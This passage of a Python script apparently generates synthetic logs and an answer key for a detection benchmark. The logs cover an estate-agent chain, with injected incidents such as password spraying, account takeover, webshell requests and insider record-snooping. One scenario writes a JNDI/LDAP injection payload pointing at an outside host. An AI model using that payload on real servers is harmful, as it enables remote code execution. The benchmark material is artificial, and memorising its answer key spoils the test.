                r.choice(("/account", f"/owners/{w}/bank")),
            )
        self.my(t + 900, ip2, w, CHROME.format(v=131), sid, f"/owners/{w}/bank", 302, "POST")

    def cross_shop(self, slow: bool) -> None:
        r = self.rng
        a, b = r.sample(("04", "05", "09"), 2)
        p = next(q for q in self.byrole["shop"] if q.shop == a)
        self.open(
            "medium",
            "other_site",
            [p.user],
            f"The owner of shop {SHOPS[a]} reads inquiries on the site of {SHOPS[b]}",
            f"{p.user} on mise-{b}, where only its own people have ever been; 200s",
        )
        for d in self.span(p, slow, 12)[: 9 if slow else 1]:
            self.hit(
                f"mise-{b}",
                self.T(d, 17),
                p.pc,
                p.user,
                "POST",
                "/admin/login",
                302,
                0,
                p.ua,
                f"https://fr{b}.hinata-fc.example/admin/login",
            )
            for k in range(r.randrange(3, 7) if slow else 18):
                self.hit(
                    f"mise-{b}",
                    self.T(d, 17.05) + 50 * k + 30 * r.random(),
                    p.pc,
                    p.user,
                    "GET",
                    f"/admin/inquiries/{self.inquiry(b, d)}",
                    200,
                    None,
                    p.ua,
                )

    def left_user(self, slow: bool) -> None:
        r, p = self.rng, self.take("agent")
        d = max(22, self.span(None, False, 1)[0])
        gone = d - r.randrange(5, 9)
        p.left = self.days[gone]
        self.hits = [
            h for h in self.hits if h.user not in (p.ad, p.user) or h.t < self.T(gone + 1, 0)
        ]
        self.open(
            "medium",
            "other",
            [p.ad],
            f"The account of {p.name}, who left, is used again to read customers",
            "left_on is days before; from a telephone, a score of records of the old branch",
        )
        ip = self.mobile()
        self.crm_login(p, self.T(d, 18.1), ip, p.phone_ua, 0)
        for k in range(17):
            self.record(
                p,
                self.T(d, 18.2) + 70 * k + 30 * r.random(),
                self.customer(p.branch, d),
                ip=ip,
                ua=p.phone_ua,
            )

    def spray(self, slow: bool) -> None:
        r, n = self.rng, 10 if slow else 1
        ips = [self.quad("45.134.26", "89.248.165", "103.145.13") for _ in range(4 if slow else 2)]
        v = self.take("agent")
        targets = [
            p for p in self.people if p.role in ("agent", "seller", "contract", "collect", "owner")
        ]
        r.shuffle(targets)
        days = self.span(None, slow, n + 2)[:n]
        self.open(
            "medium",
            "login",
            ips + [v.ad],
            "One password is tried on some seventy staff accounts, slowly; one opens",
            "Outside addresses, one or two failures for each of many accounts in order of nothing, then a 302 and records",
        )
        for i, p in enumerate(targets[:72]):
            d = days[i * len(days) // 72]
            self.crm(
                p,
                self.T(d, 11 + (7 * r.random() if slow else 6.5 * i / 72)),
                "/crm/login",
                401,
                1293,
                "POST",
                ips[i % len(ips)],
                CHROME.format(v=135),
                "/crm/login",
            )
        d, t = days[-1], self.T(days[-1], 18.2)
        self.crm(v, t, "/crm/login", 302, 0, "POST", ips[0], CHROME.format(v=135), "/crm/login")
        for k in range(9):
            self.crm(
                v,
                t + 20 + 25 * k,
                f"/crm/customers/{self.customer(v.branch, d)}",
                200,
                None,
                "GET",
                ips[0],
                CHROME.format(v=135),
            )

    def webshell(self, slow: bool) -> None:
        r, s, ip = self.rng, self.rng.choice(("06", "08")), self.hosting()
        days = self.span(None, True, 3)[:2]
        path = f"/wp-content/uploads/{self.days[days[0]].strftime('%Y/%m')}/thumb-cache.php"
        self.open(
            "medium",
            "web",
            [ip, f"mise-{s}"],
            f"A program was put on the site of {SHOPS[s]} through a form and is run from outside",
            "POSTs with 200 to a .php below uploads that nobody asked for before, by one address, after an upload",
        )
        self.hit(
            f"mise-{s}",
            self.T(days[0], 4.1),
            ip,
            "-",
            "POST",
            "/wp-content/plugins/room-gallery/upload.php",
            200,
            61,
            CHROME.format(v=118),
        )
        for d in days:
            for k in range(r.randrange(7, 14)):
                self.hit(
                    f"mise-{s}",
                    self.T(d, 4.2 + 0.6 * r.random()),
                    ip,
                    "-",
                    r.choice(("POST", "POST", "GET")),
                    path,
                    200,
                    r.randrange(40, 60000),
                    CHROME.format(v=118),
                )

    def keys_night(self, slow: bool) -> None:
        r, p = self.rng, self.take("agent")
        days = self.span(p, slow, 16)[: 8 if slow else 1]
        self.open(
            "medium",
            "hours",
            [p.user],
            f"{p.name} looks up key-box codes late in the evening by telephone, without bookings",
            "No booking before any code, after closing; in his past a code always follows a booking of the day",
        )
        for d in days:
            for k in range(r.randrange(3, 7) if slow else 24):
                self.hit(
                    "yoyaku",
                    self.T(d, 22.4) + 60 * k + 40 * r.random(),
                    p.phone,
                    p.user,
                    "GET",
                    f"/keys/K{p.branch:02}-{r.randrange(1, 260):04}/code",
                    200,
                    412,
                    p.phone_ua,
                )

    def reset(self, slow: bool) -> None:
        w, ip, ua, d = (
            self.rng.choice(self.owners),
            self.quad("185.220.101", "193.32.162"),
            CHROME.format(v=133),
            self.span(None, False, 1)[0],
        )
        self.open(
            "medium",
            "login",
            [w, ip],
            "An owner's account is taken by failed tries and a password reset; the bank account is changed",
            "Four failures, a reset, a sign-in and a POST on the bank page in ten minutes by an address never seen with this owner",
        )
        t = self.T(d, 4.5)
        for k in range(4):
            self.my(t + 15 * k, ip, w, ua, "", "/login", 401, "POST", ref="/login")
        self.my(t + 90, ip, "", ua, "", "/password/reset", 302, "POST", ref="/password/reset")
        sid = self.my_login(t + 300, ip, w, ua, 0)
        self.my(t + 330, ip, w, ua, sid, f"/owners/{w}/bank")
        self.my(t + 380, ip, w, ua, sid, f"/owners/{w}/bank", 302, "POST", ref=f"/owners/{w}/bank")

    def relation(self, slow: bool) -> None:
        p = self.people_relation
        days = self.span(p, True, 6)[:2]
        self.open(
            "medium",
            "other",
            [p.ad],
            f"{p.name} opens record and papers of a customer named in the watch list as his relation",
            "The pair stands in watch.csv; another branch's customer; twice, with papers",
        )
        for d in days:
            self.record(p, self.T(d, self.clock(p)), self.related, papers=True, search=1)

    def probe(self, slow: bool) -> None:
        ip, d = self.hosting(), self.span(None, False, 1)[0]
        self.open(
            "easy",
            "web",
            [ip],
            "A lone JNDI probe on the portal's sign-in that got nothing",
            "Three requests with ${jndi:…} in query and agent, 404 and 400",
            woken=False,
        )
        for k, st in enumerate((404, 404, 400)):
            self.my(
                self.T(d, 6.3) + 4 * k,
                ip,
                "",
                "${jndi:ldap://45.134.26.9:1389/a}",
                "",
                "/login?x=%24%7Bjndi%3Aldap%3A%2F%2F45.134.26.9%2Fa%7D",
                st,
            )

    def owners_slow(self, slow: bool) -> None:
        r, p, n = self.rng, self.take("agent"), self.n
        days = [d for d in self.span(p, True, 16, late=False) if d >= 14][:14]
        self.open(
            "hard",
            "weeks",
            [p.ad],
            f"{p.name}, a rental agent, collects owners' records (bank, properties) of all branches, a few each day for weeks",
            "Rental agents open an owner of their own branch now and then; here each day is small, but of all branches and the sum is a hundred different owners",
        )
        for d in days:
            for _ in range(r.randrange(4, 10)):
                self.crm(p, self.T(d, self.clock(p)), f"/crm/owners/{r.choice(self.owners)}")

    def stalk(self, slow: bool) -> None:
        r, p = self.rng, self.take("agent")
        b = r.choice([x for x in range(1, 13) if x != p.branch])
        c = self.customer(b, 0, old=True)
        days = self.span(p, True, 18, late=False)
        self.open(
            "hard",
            "weeks",
            [p.ad],
            f"{p.name} opens the same former customer of another branch ({c}) again and again for weeks",
            "One subject, one reader, no application, viewing or change beside it; nobody else opens it",
        )
        for d in days[:18]:
            for _ in range(r.choice((0, 1, 1, 2))):
                self.crm(p, self.T(d, self.clock(p)), f"/crm/customers/{c}", ref="/crm/home")
                if r.random() < 0.3:
                    self.crm(
                        p,
                        self.T(d, self.clock(p)),
                        f"/crm/customers/{c}/history",
                        ref=f"/crm/customers/{c}",
                    )

    def colleague(self, slow: bool) -> None:
        r, p = self.rng, self.take("agent")
        while 3 in p.off or not any(
            x.branch == p.branch and x.user not in self.taken for x in self.byrole["agent"]
        ):
            p = self.take("agent")
        q = next(
            x for x in self.byrole["agent"] if x.branch == p.branch and x.user not in self.taken
        )
        self.taken.add(q.user)
        q.off = (2, 3)
        self.hits = [
            h
            for h in self.hits
            if not (
                h.user in (q.ad, q.user)
                and self.wd(min(self.n - 1, int((h.t - self.base) // 86400))) == 3
            )
        ]
        days = [
            d
            for d in range(14 if slow else self.n // 2, self.n)
            if self.wd(d) == 3 and self.works(p, d) and (p.user, d) not in self.ill
        ]
        self.open(
            "hard",
            "session",
            [q.ad, p.ad],
            f"On {q.name}'s days off the account is used at the PC of the colleague {p.name}, to open papers",
            "The account works on Thursdays although its owner never does, always from the address and browser at which the colleague signs in minutes before and after",
        )
        for d in days[: 5 if slow else 2]:
            self.crm_login(p, self.T(d, 15.2), typo=0)
            self.crm_login(q, self.T(d, 15.5 + r.random()), p.pc, p.ua, 0)
            for _ in range(r.randrange(4, 8)):
                self.record(
                    q,
                    self.T(d, 16.6 + r.random()),
                    self.customer(p.branch, d, old=r.random() < 0.5),
                    papers=True,
                    ip=p.pc,
                    ua=p.ua,
                )
            self.crm_login(p, self.T(d, 17.9), typo=0)

    def confirm(self, slow: bool) -> None:
        r, ua = (
            self.rng,
            "Mozilla/5.0 (Linux; Android 9; SM-J730F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/103.0.0.0 Mobile Safari/537.36",
        )
        days = self.span(None, True, 14 if slow else 6)[: 12 if slow else 5]
        inc = self.open(
            "hard",
            "outsider",
            ["yoyaku"],
            "Somebody counts through booking confirmations without key from ever new mobile addresses",
            "Rising numbers without k and without a booking before, one rare old agent, from a new address each time, many 404",
            sites=["yoyaku"],
        )
        no = 410000 + 62 * days[0]
        for d in days:
            for k in range(r.randrange(26, 44)):
                no += r.randrange(1, 4)
                self.hit(
                    "yoyaku",
                    self.T(d, 9 + 13 * k / 44) + 200 * r.random(),
                    self.mobile(),
                    "-",
                    "GET",
                    f"/confirm?no=B{no:07}",
                    r.choice((200, 200, 404)),
                    ua=ua,
                )
        inc["actors"] += sorted({h.ip for h in self.hits if h.tag == inc["id"]})[:400]

    def service_use(self, slow: bool) -> None:
        p = self.take("system")
        d = self.span(p, False, 1)[0]
        self.open(
            "hard",
            "export",
            ["HINATA\\svc-sync", p.ad, p.pc],
            "A system administrator uses the batch account by hand to export the guarantor companies' file",
            "svc-sync from a desk's address with a browser, at the hour after the batch's files are long done; the same address is one man's PC",
        )
        for k in range(2):
            self.hit(
                "kokyaku",
                self.T(d, 12.2 + 0.1 * k),
                p.pc,
                "HINATA\\svc-sync",
                "GET",
                ("/crm/export/guarantor-company.csv", "/crm/export/portal-feed.csv")[k],
                200,
                (311_204, 2_406_551)[k],
                p.ua,
            )
        self.crm(p, self.T(d, 12.05), "/crm/admin/jobs")
        self.crm(p, self.T(d, 12.5), "/crm/admin/jobs")

    def export_grow(self, slow: bool) -> None:
        r, p = self.rng, self.take("account")
        days = self.span(p, True, 15 if slow else 8, late=False)[: 10 if slow else 5]
        self.open(
            "hard",
            "export",
            [p.ad],
            f"{p.name} widens the daily arrears export to all tenants with telephone numbers",
            "As many exports as ever, the same address, but all=1 instead of a branch and ten times the bytes, day after day, not at the month's end",
        )
        for d in days:
            self.crm(
                p,
                self.T(d, 16 + r.random()),
                "/crm/export/arrears.csv?all=1&cols=name,tel,mail",
                200,
                int(560_000 * math.exp(r.gauss(0, 0.1))),
            )

    def gap(self, slow: bool) -> None:
        p = self.take("system")
        tagged = {
            (h.t - self.base) // 86400
            for h in self.hits
            if h.tag.startswith("i") and h.site == "kokyaku"
        }
        days = [
            d for d in self.workdays(p, 17, self.n - 1) if d not in tagged and self.wd(d) != 2
        ] or self.workdays(p, 17, self.n - 1)[-1:]
        d = self.rng.choice(days)
        inc = self.open(
            "hard",
            "silence",
            ["kokyaku", p.ad],
            "The customer database writes no log for an hour in the afternoon; before it an administrator changed the logging",
            "A hole of 66 minutes at the busiest time while bookings and portal go on; a POST on /crm/admin/log right before and after",
            sites=["kokyaku"],
        )
        self.crm(p, self.T(d, 14.58), "/crm/admin/log", 302, 0, "POST")
        self.crm(p, self.T(d, 15.75), "/crm/admin/log", 302, 0, "POST")
        self.drops.append(("kokyaku", self.T(d, 14.6), self.T(d, 15.72)))
        inc["first_day"] = inc["last_day"] = str(self.days[d])

    def bpo_papers(self, slow: bool) -> None:
        r, p = self.rng, self.byrole["bpo"][self.rng.randrange(4, 10)]
        self.taken.add(p.user)
        mine = sorted(
            {
                int((h.t - self.base) // 86400)
                for h in self.hits
                if h.user == p.ad and h.site == "kokyaku"
            }
        )
        mine = [d for d in mine if d >= (14 if slow else self.n // 2)][: 9 if slow else 5]
        inc = self.open(
            "hard",
            "weeks",
            [p.ad],
            "An operator of the night desk's contractor opens guarantor papers beside the calls, one or two a shift",
            "The desk never opens papers and privileges.csv does not give them; a few lines among dozens, in each shift",
        )
        for d in mine:
            seen = [
                h
                for h in self.hits
                if h.user == p.ad
                and h.site == "kokyaku"
                and d == (h.t - self.base) // 86400
                and "/customers/C" in h.target
                and not h.tag
            ]
            for h in r.sample(seen, min(len(seen), r.choice((1, 2, 2, 3)))):
                self.crm(
                    p,
                    h.t + 25 + 20 * r.random(),
                    "/crm/customers/" + h.target.split("/")[3] + "/papers",
                    200,
                    int(9e4 * math.exp(r.gauss(0, 0.7))),
                )
        inc["actors"] = [p.ad]

    def decoy(self, slow: bool) -> None:
        r, p = self.rng, self.take("agent")
        d = self.span(p, False, 1)[0]
        c = self.decoys[r.randrange(3)]
        self.open(
            "hard",
            "other",
            [p.ad],
            f"{p.name} browses old customers of another branch one after the other by number, a decoy among them",
            "One line on a decoy that no work can lead to (watch.csv), between neighbours by number that are not his branch's",
        )
        k0 = int(c[4:])
        for k in range(-6, 6):
            self.crm(
                p,
                self.T(d, 18.0) + 80 * (k + 6) + 50 * r.random(),
                f"/crm/customers/{c[:4]}{k0 + k:05}",
                ref="/crm/customers",
            )

    def happen(self) -> None:
        """Choose the incidents of this world: a third of each grade; weeks-long ones in a long world."""
        r = self.rng
        if self.n < 50:
            easy = [
                self.leaver_export,
                self.stuffing,
                self.idor,
                self.sqli,
                self.errors,
                self.silence,
                self.no_auth,
                self.stolen,
            ]
            medium = [
                self.papers,
                self.hijack,
                self.cross_shop,
                self.left_user,
                self.spray,
                self.webshell,
                self.keys_night,
                self.reset,
                self.relation,
            ]
            hard = [
                self.owners_slow,
                self.stalk,
                self.colleague,
                self.confirm,
                self.service_use,
                self.export_grow,
                self.bpo_papers,
                self.decoy,
            ]
            parts = [
                (f, False)
                for f in r.sample(easy, 4) + [self.probe] + r.sample(medium, 5) + r.sample(hard, 5)
            ]
            tail_ = [(self.gap, False)] if r.random() < 0.6 else []
        else:
            easy = [(self.idor, True), (self.silence, True)] + [
                (f, False)
                for f in r.sample([self.stuffing, self.sqli, self.leaver_export, self.stolen], 2)
            ]
            medium = r.sample(
                [(self.cross_shop, True), (self.spray, True), (self.keys_night, True)], 2
            ) + [
                (f, False)
                for f in r.sample(
                    [self.papers, self.hijack, self.left_user, self.reset, self.webshell], 2
                )
            ]
            hard = [
                (f, True)
                for f in r.sample(
                    [
                        self.owners_slow,
                        self.stalk,
                        self.colleague,
                        self.confirm,
                        self.export_grow,
                        self.bpo_papers,
                    ],
                    4,
                )
            ]
            parts, tail_ = easy + medium + hard, [(self.gap, False)] if r.random() < 0.5 else []
        r.shuffle(parts)
        for f, slow in parts + tail_:
            f(slow)
            self.tag = ""

    def live(self) -> None:
        """Live all days, then settle what was written and what was not."""
        r = self.rng
        self.vip_branch = r.randrange(1, 13)
        while any(self.vip_branch == m[0] for m in self.moves):
            self.vip_branch = r.randrange(1, 13)
        self.vips = [
            self.customer(self.vip_branch, 5),
            self.customer(r.randrange(1, 13), 0, old=True),
        ]
        self.decoys = [
            f"C{b:02}-{self.serial0[b] - 7600 - r.randrange(300):05}"
            for b in r.sample(range(1, 13), 3)
        ]
        self.plan()
        self.people_relation = self.take("agent")
        self.related = self.customer(self.people_relation.branch % 12 + 1, 0, old=True)
        self.ordinary()
        self.annoyances_all()
        self.happen()
        end, touched = self.T(self.n, 0), defaultdict(list)
        kept = []
        for h in sorted(self.hits, key=lambda x: (x.t, x.site, x.ip, x.target, x.user)):
            if not self.base <= h.t < end:
                continue
            for site, lo, hi, status, share in self.down:
                if (
                    h.site == site
                    and lo <= h.t < hi
                    and h.ip != "203.0.113.77"
                    and r.random() < share
                ):
                    h.status, h.size = status, 512
                    if status == 500 and not h.tag:
                        h.tag = next(
                            (i["id"] for i in self.incidents if i["family"] == "errors"), ""
                        )
            if any(h.site == s and lo <= h.t < hi for s, lo, hi in self.drops):
                continue
            kept.append(h)
            touched[h.tag].append(h)
        self.hits = kept
        for x in self.incidents + self.annoyances:
            hs = touched.get(x["id"], [])
            if hs:
                ds = sorted({int((h.t - self.base) // 86400) for h in hs})
                x["first_day"], x["last_day"] = str(self.days[ds[0]]), str(self.days[ds[-1]])
                x["site_ids"] = sorted({h.site for h in hs} | set(x["site_ids"]))
            if "lines" in x:
                x["lines"] = len(hs)
        self.incidents = [x for x in self.incidents if x["first_day"]]
        self.annoyances = [x for x in self.annoyances if x["first_day"]]

    # ---- writing --------------------------------------------------------------------------------------------------------------
    def write(self, out: Path) -> None:
        """Logs, settings, context files, truth."""
        r = random.Random(self.seed + 1000003)
        files: dict[str, list[str]] = defaultdict(list)
        end_day = self.n - 1

        def esc(s: str) -> str:
            return s.replace("\\", "\\\\").replace('"', '\\"')

        for h in self.hits:
            loc = datetime.fromtimestamp(int(h.t) + JST, timezone.utc)
            utc = datetime.fromtimestamp(int(h.t), timezone.utc)
            clf = loc.strftime("%d/%b/%Y:%H:%M:%S +0900")
            if h.site == "www":  # logrotate at 03:14 each day
                cut = loc - timedelta(hours=3, minutes=14)
                k = (cut.date() - self.days[0]).days
                name = (
                    "www/access.log"
                    if k >= end_day
                    else f"www/access.log-{cut.date() + timedelta(days=1):%Y%m%d}"
                    + (".gz" if k < end_day - 1 else "")
                )
                files[name].append(
                    f'{HOST["www"]}:443 {h.ip} - - [{clf}] "{h.method} {h.target} HTTP/1.1" {h.status} {h.size or "-"} "{esc(h.ref)}" "{esc(h.ua)}"'
                )
            elif h.site == "kokyaku":
                path, _, q = h.target.partition("?")
                files[f"kokyaku/u_ex{utc:%y%m%d}.log"].append(
                    f"{utc:%Y-%m-%d %H:%M:%S} 10.20.0.8 {h.method} {path} {q or '-'} 443 {h.user or '-'} {h.ip} "
                    f"{h.ua.replace(' ', '+')} {h.ref} {h.status} 0 0 {h.size} {h.ms}"
                )
            elif h.site == "mypage":
                path = h.target
                xff = h.ip if r.random() > 0.004 else f"192.168.1.{r.randrange(2, 99)}, {h.ip}"
                rec = {
                    "time": loc.strftime("%Y-%m-%dT%H:%M:%S+09:00"),
                    "remote_addr": r.choice(("10.0.8.11", "10.0.8.12")),
                    "xff": xff,
                    "host": HOST["mypage"],
                    "user": h.user if h.user != "-" else "",
                    "request": f"{h.method} {path} HTTP/2.0",
                    "status": str(h.status),
                    "bytes": str(h.size),
                    "rt": f"{h.ms / 1000:.3f}",
                    "referer": "" if h.ref == "-" else h.ref,
                    "ua": h.ua,
                    "sid": h.sid,
                }
                line = json.dumps(rec, ensure_ascii=False, separators=(",", ":"))
                for k in ("status", "bytes", "rt"):
                    line = line.replace(f'"{k}":"{rec[k]}"', f'"{k}":{rec[k]}', 1)
                day = (loc.date() - self.days[0]).days
                files[f"mypage/access.json-{loc:%Y%m%d}" + (".gz" if day < end_day else "")].append(
                    line
                )
            elif h.site == "yoyaku":
                ap = 1 + sum(map(ord, h.ip)) % 2
                files[f"yoyaku/ap{ap}/access.{loc:%Y%m%d}.ltsv"].append(
                    "\t".join(
                        (
                            f"time:[{clf}]",
                            f"host:{h.ip}",
                            f"user:{h.user}",
                            f"req:{h.method} {h.target} HTTP/1.1",
                            f"status:{h.status}",
                            f"size:{h.size}",
                            f"reqtime:{h.ms / 1000:.3f}",
                            f"referer:{h.ref}",
                            f"ua:{h.ua}",
                            f"vhost:{HOST['yoyaku']}",
                        )
                    )
                )
            else:
                s = h.site[5:]
                stamp = (
                    clf if s != "07" else utc.strftime("%d/%b/%Y:%H:%M:%S +0000")
                )  # one shop's server keeps UTC
                files[f"mise/{s}/access.log-{loc:%Y%m%d}"].append(
                    f'{h.ip} - {h.user or "-"} [{stamp}] "{h.method} {h.target} HTTP/1.1" {h.status} {h.size or "-"} "{esc(h.ref)}" "{esc(h.ua)}"'
                )
        for s, d in self.copies:
            name = f"mise/{s}/access.log-{self.days[d]:%Y%m%d}"
            files[name + ".1"] = list(files[name])
        head = (
            "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: {}\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port "
            "cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status sc-bytes time-taken"
        )
        for name in sorted(files):
            lines = files[name]
            if name.startswith("kokyaku"):
                lines = head.format(lines[0][:19]).split("\n") + lines
            data = ("\n".join(lines) + "\n").encode()
            if name.endswith(".gz"):
                buf = io.BytesIO()
                with gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0) as z:
                    z.write(data)
                data = buf.getvalue()
            f = out / "logs" / name
            f.parent.mkdir(parents=True, exist_ok=True)
            f.write_bytes(data)
        self.context(out)
        (out / "mimamori.yaml").write_text(SETTINGS, encoding="utf-8")
        truth = {
            "seed": self.seed,
            "days": [str(d) for d in self.days],
            "about": ABOUT,
            "incidents": self.incidents,
            "annoyances": self.annoyances,
        }
        (out / "truth.json").write_text(
            json.dumps(truth, ensure_ascii=False, indent=1) + "\n", encoding="utf-8"
        )

    def context(self, out: Path) -> None:
        """The personnel list, rights, watched records, the roster of shops."""
        rows = ["user,person,name,department,site,manager,type,company,country,joined_on,left_on"]
        boss = {
            b: next(p for p in self.people if p.branch == b and not p.shop)
            for b in list(BRANCHES) + [0]
        }
        renamed, new, since = self.newname
        for p in self.people:
            kind, company = (
                ("franchise", f"ひなた{SHOPS[p.shop]}")
                if p.shop
                else ("contractor", "よるまどコール")
                if p.role == "bpo"
                else ("contractor", "みなと監査法人")
                if p.role == "auditor"
                else ("staff", "ひなた住宅")
            )
            joined, left = (
                (self.audit_from, self.audit_to) if p.role == "auditor" else (p.joined, p.left)
            )
            place = f"mise-{p.shop}" if p.shop else BRANCHES.get(p.branch, "本社")
            users = (
                [p.user] if p.shop else [p.ad] if p.role in ("bpo", "auditor") else [p.ad, p.user]
            )
            if p is renamed:
                users += ["HINATA\\" + new, new]
            for u in users:
                mgr = "" if p.shop or boss[p.branch] is p else boss[p.branch].ad
                rows.append(
                    f"{u},{p.number},{p.name},{p.dept},{place},{mgr},{kind},{company},JP,{joined},{left or ''}"
                )
        (out / "people.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
        rights = ["user,department,resource,level,from,to"]
        for dept in (
            "賃貸営業",
            "売買営業",
            "契約管理課",
            "収納課",
            "オーナー課",
            "経理課",
            "情報システム課",
            "お客様相談室",
            "内部監査室",
            "エリア長",
            "加盟店",
        ):
            rights.append(f",{dept},,3,,")
        rights += [
            f",夜間受付,{x},,,"
            for x in ("customer", "customer-history", "customer-list", "crm-login")
        ]
        rights += [f"HINATA\\{u},,,3,{self.audit_from},{self.audit_to}" for u in AUDIT_USERS]
        (out / "privileges.csv").write_text("\n".join(rights) + "\n", encoding="utf-8")
        watch = (
            ["subject,kind,user,reason"]
            + [f"{c},decoy,,おとり（実在しない顧客）" for c in self.decoys]
            + [f"{c},vip,,著名人" for c in self.vips]
        )
        watch += [f"{self.related},relation,{self.people_relation.ad},親族の申告"]
        watch += [f"{c},staff,,当社社員の入居" for c in (self.ref_cust[2][0], self.ref_cust[5][0])]
        (out / "watch.csv").write_text("\n".join(watch) + "\n", encoding="utf-8")
        roster = ["franchise,name,opened_on,closed_on"] + [
            f"{s},{n},2019-04-01," for s, n in SHOPS.items()
        ]
        (out / "shops.csv").write_text("\n".join(roster) + "\n", encoding="utf-8")


ABOUT = (
    "Hinata Jutaku (ひなた住宅), a chain of estate agents: twelve rental and two sales branches closed on Wednesdays, a headquarters with contract, collection, owners' and accounts desks, a "
    "contractor who takes tenants' calls at night, eight franchise shops with small sites of their own; a customer database with guarantor papers on IIS, a portal for tenants and owners "
    "behind a balancer, a booking site with key-box codes, a public site."
)
SETTINGS = r"""timezone: Asia/Tokyo
locale: ja
business_hours: {days: [mon, tue, wed, thu, fri, sat, sun], from: "08:30", to: "20:00"}
user_types:
  - {pattern: '^(HINATA\\)?svc-', type: system}
  - {pattern: '^(HINATA\\)?(bpo|aud)-', type: contractor}
  - {pattern: '^fr(?P<franchise>[0-9]{2})-', type: franchise}
  - {pattern: '^[TW][0-9]', type: customer}
  - {pattern: '^HINATA\\', type: staff}
  - {pattern: '^[a-z]+\.[a-z]+$', type: staff}
context: {people: people.csv, privileges: privileges.csv, watch: watch.csv}
resources:
  kokyaku:
    - {id: crm-login, kind: login, path: /crm/login, methods: [POST], success: [302], failure: [401]}
    - {id: customer, kind: record, path: "/crm/customers/{subject}", level: 2, categories: [name, address, phone]}
    - {id: customer-history, kind: record, path: "/crm/customers/{subject}/history", level: 2, categories: [name, phone]}
    - {id: guarantor-papers, kind: record, path: "/crm/customers/{subject}/papers", level: 3, categories: [name, address, phone, income, identity]}
    - {id: application, kind: record, path: "/crm/applications/{subject}", level: 3, categories: [name, address, income]}
    - {id: owner, kind: record, path: "/crm/owners/{subject}", level: 3, categories: [name, address, bank]}
    - {id: customer-list, kind: list, path: /crm/customers, level: 2, categories: [name]}
    - {id: customer-search, kind: list, path: /crm/search, level: 1, categories: [name]}
    - {id: crm-export, kind: export, path: "/crm/export/*", level: 3, categories: [name, address, phone]}
    - {id: crm-admin, kind: admin, path: "/crm/admin/*", level: 1}
  mypage:
    - {id: login, kind: login, path: /login, methods: [POST], success: [302], failure: [401]}
    - {id: logout, kind: logout, path: /logout}
    - {id: contract, kind: record, path: "/contracts/{subject}", level: 2, categories: [name, address]}
    - {id: statement, kind: record, path: "/owners/{subject}/statements/*", level: 3, categories: [name, bank]}
    - {id: bank, kind: record, path: "/owners/{subject}/bank", level: 3, categories: [name, bank]}
    - {id: portal-user, kind: record, path: "/admin/users/{subject}", level: 2, categories: [name, mail]}
  yoyaku:
    - {id: booking, kind: record, path: "/bookings/{subject}", level: 2, categories: [name, phone]}
    - {id: booking-list, kind: list, path: /bookings, level: 1, categories: [name]}
    - {id: confirmation, kind: record, path: "/confirm?no={subject}", level: 1, categories: [name]}
    - {id: key-code, kind: record, path: "/keys/{subject}/code", level: 2, categories: [location]}
  mise:
    - {id: shop-login, kind: login, path: /admin/login, methods: [POST], success: [302], failure: [401]}
    - {id: inquiry, kind: record, path: "/admin/inquiries/{subject}", level: 2, categories: [name, phone]}
    - {id: inquiry-list, kind: list, path: /admin/inquiries, level: 2, categories: [name]}
    - {id: inquiry-export, kind: export, path: /admin/inquiries.csv, level: 3, categories: [name, phone]}
sites:
  - {id: www, group: main, domains: [www.hinata-jutaku.example], logs: ["www/access.log*"], format: vhost_combined, hours: always}
  - {id: kokyaku, group: main, domains: [kokyaku.hinata-jutaku.example], logs: ["kokyaku/u_ex*.log"], format: auto, resources: kokyaku, hours: business}
  - id: mypage
    group: main
    domains: [my.hinata-jutaku.example]
    logs: ["mypage/access.json*"]
    format: '{"time":"$time_iso8601","remote_addr":"$remote_addr","xff":"$http_x_forwarded_for","host":"$host","user":"$remote_user","request":"$request","status":$status,"bytes":$body_bytes_sent,"rt":$request_time,"referer":"$http_referer","ua":"$http_user_agent","sid":"$cookie_sid"}'
    trusted_proxies: [10.0.8.0/24]
    session_cookie: sid
    resources: mypage
    hours: always
  - id: yoyaku
    group: main
    domains: [yoyaku.hinata-jutaku.example]
    logs: ["yoyaku/ap*/access.*.ltsv"]
    format: "time:[$time_local]\thost:$remote_addr\tuser:$remote_user\treq:$request\tstatus:$status\tsize:$body_bytes_sent\treqtime:$request_time\treferer:$http_referer\tua:$http_user_agent\tvhost:$host"
    resources: yoyaku
    hours: business
  - {id: "mise-{franchise}", group: fc, domains: ["fr{franchise}.hinata-fc.example"], logs: ["mise/{franchise}/access.log*"], franchise: "{franchise}", roster: shops.csv, format: combined,
     resources: mise, hours: business}
"""


def main() -> None:
    """Read the arguments, draw the world, write it."""
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--days", type=int, default=35)
    ap.add_argument("--out", type=Path, required=True)
    a = ap.parse_args()
    world = World(a.seed, a.days)
    world.live()
    world.write(a.out)


if __name__ == "__main__":
    main()
